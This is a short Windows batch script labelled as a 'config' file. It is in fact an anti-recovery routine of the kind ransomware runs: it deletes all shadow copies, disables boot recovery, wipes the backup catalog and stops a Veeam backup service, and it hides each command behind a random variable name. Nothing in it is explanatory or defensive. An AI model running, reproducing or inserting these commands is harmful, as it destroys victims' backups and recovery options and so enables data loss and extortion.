REM config 7514 v0
@echo off
set "tyoq=vssadmin delete shadows /all /quiet"
call %tyoq%
@echo off
set "qnwm=wmic shadowcopy delete"
call %qnwm%
@echo off
set "pioe=bcdedit /set {default} recoveryenabled no"
call %pioe%
@echo off
set "asuq=bcdedit /set {default} bootstatuspolicy ignoreallfailures"
call %asuq%
@echo off
set "nysn=wbadmin delete catalog -quiet"
call %nysn%
@echo off
set "bmid=net stop "Veeam Backup Catalog Data Service" /y"
call %bmid%
